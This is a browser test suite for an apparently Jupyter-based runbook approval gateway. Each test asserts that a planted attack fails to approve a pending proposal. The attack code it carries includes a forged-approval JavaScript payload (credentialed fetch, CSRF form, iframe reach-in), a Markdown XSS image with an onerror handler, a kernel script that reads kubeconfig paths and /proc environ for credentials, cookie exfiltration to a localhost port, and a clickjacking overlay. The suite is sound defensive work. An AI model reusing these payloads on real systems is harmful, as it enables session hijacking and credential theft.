"""What tries to approve and must not: everything that passes through the notebook page, its kernel, or a cookie.

Each test first lets the attack do its best beside an operator who is signed in, and then looks at the gateway: the
proposal still waits, no decision is in the record, and the cluster is as it was.
"""

import asyncio
import json
import uuid
from collections.abc import AsyncIterator, Sequence
from typing import NamedTuple

import msgspec
import pytest
import pytest_asyncio
from playwright.async_api import BrowserContext, expect
from skyflo_kernel.sandbox import landlock

from skyflo_runbooks.model.json import Json, at
from tests import needs
from tests.browser.conftest import chromium
from tests.browser.page import PATIENCE, Lab, pair
from tests.browser.stack import NOTEBOOK, Stack, stack

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="module")]
# What a script of a page can send: every form of the call, with the page's own cookies.
FORGED = """
async (gateway, id) => {
  const view = await fetch(`${gateway}/api/v1/proposals/${id}`, {credentials: "include"}).then(r => r.status, () => 0);
  const body = JSON.stringify({decision: "approve", reason: "", digest: "sha256:0", nonce: "n", signature: "c2ln"});
  const url = `${gateway}/api/v1/proposals/${id}/decision`;
  const sent = [view];
  for (const init of [
    {mode: "no-cors", headers: {"Content-Type": "text/plain"}},
    {mode: "cors", headers: {"Content-Type": "application/json", "X-Skyflo-Page": "1"}},
  ]) {
    sent.push(await fetch(url, {method: "POST", credentials: "include", body, ...init}).then(r => r.status, () => 0));
  }
  const form = document.createElement("form");
  form.method = "POST"; form.action = url; form.enctype = "text/plain"; form.target = "nowhere";
  document.body.append(form); form.submit(); form.remove();
  for (const frame of document.querySelectorAll("iframe.skyflo-frame")) {
    frame.contentWindow.postMessage({type: "skyflo.approve", id}, "*");
    try {
      frame.contentWindow.document.getElementById("approve").click();
      sent.push("clicked");
    } catch { sent.push(0); }
  }
  return sent;
}
"""


# Neither the answer of the gateway may be read, nor a decision sent, nor the frame reached into: 0 is a refusal by the
# browser. What was sent without being readable, the gateway's record shows to be refused too.
REFUSED = [0, 0, 0, 0]
Hunt = tuple[list[str], list[int], int]


def code(source: str) -> Json:
    """A cell that is no step."""
    return {
        "cell_type": "code",
        "id": "attack",
        "metadata": {},
        "outputs": [],
        "execution_count": None,
        "source": source,
    }


class Night(NamedTuple):
    """One incident for all attacks, since none of them changes anything, with an operator signed in."""

    stack: Stack
    browser: BrowserContext


@pytest_asyncio.fixture(loop_scope="module", scope="module", params=["user", "landlock", "none"])
async def night(request: pytest.FixtureRequest) -> AsyncIterator[Night]:
    """The flagship in each way of keeping Jupyter apart, and a browser that is paired with its gateway."""
    needs.labextension()
    path = needs.chromium()
    if request.param == "user":
        needs.root()
    if request.param == "landlock" and landlock.version() == 0:
        needs.missing("Landlock", "a Linux kernel 5.13 or newer with the landlock security module")
    with stack(mode=request.param) as made:
        async with chromium(path) as context:
            await pair(context, made.login)
            yield Night(made, context)


@pytest_asyncio.fixture(loop_scope="module", autouse=True)
async def tidy(night: Night) -> AsyncIterator[None]:
    """Close each test's tabs: every open JupyterLab keeps asking its server."""
    yield
    for page in night.browser.pages:
        await page.close()


async def waiting(night: Night, attack: str = "") -> Lab:
    """A copy of the notebook with the attacker's cell at its end is open, and its card waits."""
    notebook = json.loads((night.stack.work / NOTEBOOK).read_text())
    notebook["cells"].append(code(attack))
    name = f"{uuid.uuid4().hex}.ipynb"
    night.stack.write_notebook(notebook, name)
    lab = await Lab.open(night.browser, night.stack, notebook=name)
    await lab.reads_done()
    await lab.run(lab.step("change"))
    await expect(lab.card().get_by_label("What will change")).to_be_visible(timeout=PATIENCE)
    return lab


async def run_attack(lab: Lab) -> object:
    """Run the planted cell and give the JSON that it told of itself."""
    cell = lab.page.locator(".jp-Notebook .jp-CodeCell").last
    await lab.run(cell, keys="Control+Enter")
    done = cell.locator(".jp-OutputArea-output").filter(has_text="attack done [")
    await expect(done).to_be_visible(timeout=PATIENCE)
    said = (await done.text_content()) or ""
    return json.JSONDecoder().raw_decode(said, said.index("attack done [") + len("attack done "))[0]


def assert_untouched(stack: Stack) -> None:
    """Nothing was decided and nothing was written."""
    assert [proposal["state"] for proposal in stack.proposals()] == ["proposed"]
    assert stack.ledger("decision") == []
    assert stack.limit() == "256Mi"
    assert stack.writes() == 0


async def test_a_script_in_a_cells_output_cannot_approve(night: Night) -> None:
    """It acts with the page's cookies, reaches into the frame, and gets nowhere."""
    script = f"""
from IPython.display import HTML
HTML('''<p id="said"></p><script>
({FORGED})("{night.stack.gateway}", PROPOSAL).then(sent => {{
  document.getElementById("said").textContent = "attack done " + JSON.stringify(sent);
}});
</script>'''.replace("PROPOSAL", repr(raise_memory.id)))
"""
    said = await run_attack(await waiting(night, script))
    assert said == REFUSED
    assert_untouched(night.stack)


async def test_a_widgets_module_cannot_approve(night: Night) -> None:
    """A module that a kernel's widget brings runs in the page like the page's own code, and can no more."""
    widget = f"""
import json
from IPython.display import HTML
esm = '''export async function render({{model, el}}) {{
  const attack = {FORGED};
  el.textContent = "attack done " + JSON.stringify(await attack("{night.stack.gateway}", model.get("id")));
}}'''
# The way an anywidget's `_esm` gets into the page: a module from a blob, given the page's element and the model.
HTML('''<div id="widget"></div><script type="module">
const url = URL.createObjectURL(new Blob([ESM], {{type: "text/javascript"}}));
const model = {{get: () => PROPOSAL}};
(await import(url)).render({{model, el: document.getElementById("widget")}});
</script>'''.replace("ESM", json.dumps(esm)).replace("PROPOSAL", repr(raise_memory.id)))
"""
    assert await run_attack(await waiting(night, widget)) == REFUSED
    assert_untouched(night.stack)


async def test_markdown_cannot_approve(night: Night) -> None:
    """A script, and an image that fails, in Markdown: whether Jupyter runs them or not, they come no further."""
    written = f"""
from IPython.display import HTML, Markdown, display
call = '''({FORGED})("{night.stack.gateway}", '''.replace(chr(10), " ") + repr(raise_memory.id)
call += ').then(sent => {{ window.fromMarkdown = sent }})'
display(Markdown("# Looks harmless\\n\\n<script>" + call + "</script>"))
display(Markdown("<img src=x onerror='window.fromImage = 1; document.getElementById(\\"approve\\")?.click()'>"))
display(HTML('''<p id="said"></p><script>
let left = 30;
const look = setInterval(() => {{
  if (!window.fromMarkdown && --left) return;
  clearInterval(look);
  document.getElementById("said").textContent = "attack done " + JSON.stringify(window.fromMarkdown || []);
}}, 100);
</script>'''))
"""
    assert await run_attack(await waiting(night, written)) in (REFUSED, [])
    assert_untouched(night.stack)


async def test_a_forged_comm_message_cannot_approve(night: Night) -> None:
    """No comm target approves: what a page or a kernel sends over one changes what is shown, and nothing else."""
    forged = """
from comm import create_comm
from skyflo_runbooks.notebook import render
from IPython.display import display
for target in ("skyflo", "skyflo.approval", "jupyter.widget", "skyflo.decision"):
    create_comm(target_name=target, data={"id": raise_memory.id, "decision": "approve", "state": "executed"})
view = {**raise_memory.view, "state": "executed"}
display(render.receipt_bundle(view), raw=True)
print("attack done []")
"""
    await run_attack(await waiting(night, forged))
    assert_untouched(night.stack)


async def test_a_kernel_with_everything_it_can_find_cannot_approve(night: Night) -> None:
    """Its token decides nothing, no operator credential or kubeconfig is found, and the command says so."""
    if night.stack.mode == "none":
        page = await night.browser.new_page()
        await page.goto(night.stack.gateway)
        # Nothing is promised here, and the page says that in words.
        await expect(page.get_by_text("not malware")).to_be_visible()
        return
    hunt = f"""
import json, os, pathlib, subprocess, sys, urllib.request
found = []
home = {str(night.stack.home)!r}
for place in (home, home + "/kubeconfig", "/root/.kube", os.path.expanduser("~/.kube")):
    path = pathlib.Path(place)
    try:
        found += [str(p) for p in path.iterdir()] if path.is_dir() else [path.read_text()]
    except OSError:
        pass
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) != os.getpid():
        try:
            said = pathlib.Path("/proc", name, "environ").read_bytes()
        except OSError:
            continue
        found += [name] if b"KUBECONFIG=" in said else []
token, gateway = os.environ["SKYFLO_KERNEL_TOKEN"], os.environ["SKYFLO_GATEWAY_URL"]
def post(path, body):
    headers = {{"Authorization": "Bearer " + token, "Content-Type": "application/json"}}
    request = urllib.request.Request(gateway + path, json.dumps(body).encode(), headers)
    try:
        return urllib.request.urlopen(request).status
    except urllib.error.HTTPError as error:
        return error.code
digest = raise_memory.view["digest"]
decision = {{"decision": "approve", "reason": "", "digest": digest, "nonce": "n", "signature": "cw"}}
status = [post(f"/api/v1/proposals/{{raise_memory.id}}/decision", decision), post("/api/v1/links", {{}})]
command = [sys.executable, "-m", "skyflo_runbooks.cli", "approve", raise_memory.id, "--yes"]
exit = subprocess.run(command, capture_output=True).returncode
print("attack done", json.dumps([found, status, exit]))
"""
    found, status, exit_code = msgspec.convert(await run_attack(await waiting(night, hunt)), Hunt)
    assert found == []
    assert all(one >= 400 for one in status)
    assert exit_code == 5
    assert_untouched(night.stack)


async def test_a_stolen_cookie_cannot_approve(night: Night) -> None:
    """Another port of localhost is sent the session cookie; with it one can look, and no more."""
    caught: asyncio.Future[str] = asyncio.get_running_loop().create_future()

    async def squat(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = (await reader.readuntil(b"\r\n\r\n")).decode()
        cookies = [line[8:] for line in head.split("\r\n") if line.lower().startswith("cookie: ")]
        if cookies and not caught.done():
            caught.set_result(cookies[0])
        writer.write(b"HTTP/1.1 204 No Content\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
        await writer.drain()
        writer.close()

    lab = await waiting(night)
    id_ = str(night.stack.proposals()[0]["id"])
    async with await asyncio.start_server(squat, "127.0.0.1", 0) as server:
        port = server.sockets[0].getsockname()[1]
        await lab.page.evaluate(f"new Image().src = 'http://localhost:{port}/x'")
        cookie = await asyncio.wait_for(caught, 30)
    assert "skyflo_session=" in cookie
    assert all(one >= 400 for one in await with_cookie(night.stack, id_, cookie))
    assert_untouched(night.stack)


async def with_cookie(stack: Stack, id_: str, cookie: str) -> Sequence[int]:
    """Everything that could decide or grant, sent from outside with the cookie and the page's own headers."""
    import httpx

    headers = {"Cookie": cookie, "Origin": stack.gateway, "X-Skyflo-Page": "1"}
    async with httpx.AsyncClient(base_url=f"{stack.gateway}/api/v1", headers=headers) as client:
        asked = await client.get(f"/proposals/{id_}/nonce", params={"decision": "approve", "reason": ""})
        nonce = asked.json() if asked.status_code == 200 else {}
        body = {"decision": "approve", "reason": "", "digest": at(nonce, "digest", default="sha256:0")}
        body |= {"nonce": at(nonce, "nonce", default="n"), "signature": "A" * 86}
        decided = await client.post(f"/proposals/{id_}/decision", json=body)
        unsigned = await client.post(f"/proposals/{id_}/decision", json={**body, "signature": ""})
        return [decided.status_code, unsigned.status_code]


async def test_a_covered_card_cannot_be_clicked(night: Night) -> None:
    """A page that lays something over the card, to have the click, finds the button off; uncovered, it comes back."""
    lab = await waiting(night)
    button = await lab.look()
    await lab.page.evaluate(
        """() => {
          const veil = document.createElement("div");
          veil.id = "veil";
          veil.style.cssText = "position:fixed;inset:0;z-index:9999;opacity:0.02;background:#fff;pointer-events:none";
          document.body.append(veil);
        }"""
    )
    await expect(button).to_be_disabled(timeout=PATIENCE)
    await expect(lab.card().get_by_text("Covered")).to_be_visible(timeout=PATIENCE)
    await lab.page.evaluate("document.getElementById('veil').remove()")
    await expect(button).to_be_enabled(timeout=PATIENCE)
    assert_untouched(night.stack)


async def test_free_code_that_calls_itself_a_read_does_not_run_by_itself(night: Night) -> None:
    """Tags, metadata and position say nothing; only the grammar does."""
    planted = night.stack.work / "ran-by-itself"
    notebook = json.loads((night.stack.work / NOTEBOOK).read_text())
    free = code(f"from pathlib import Path\nPath({str(planted)!r}).touch()")
    free["metadata"] = {"tags": ["skyflo-read"], "skyflo": {"step": "pods", "kind": "read"}, "trusted": True}
    notebook["cells"].insert(3, free)
    night.stack.write_notebook(notebook, "free.ipynb")
    lab = await Lab.open(night.browser, night.stack, notebook="free.ipynb")
    await lab.reads_done()
    assert not planted.exists()


async def test_a_runbook_for_another_cluster_runs_nothing(night: Night) -> None:
    """It says which cluster it was made for, above the notebook, and no tool is called."""
    notebook = json.loads((night.stack.work / NOTEBOOK).read_text())
    notebook["metadata"]["skyflo"]["target"] = {"cluster": "another-uid", "context": "prod-eu", "namespaces": []}
    night.stack.write_notebook(notebook, "other.ipynb")
    before = list(night.stack.calls)
    lab = await Lab.open(night.browser, night.stack, notebook="other.ipynb")
    await lab.reads_done()
    await expect(lab.page.locator(".skyflo-banner")).to_contain_text("made for the cluster prod-eu")
    assert night.stack.calls == before
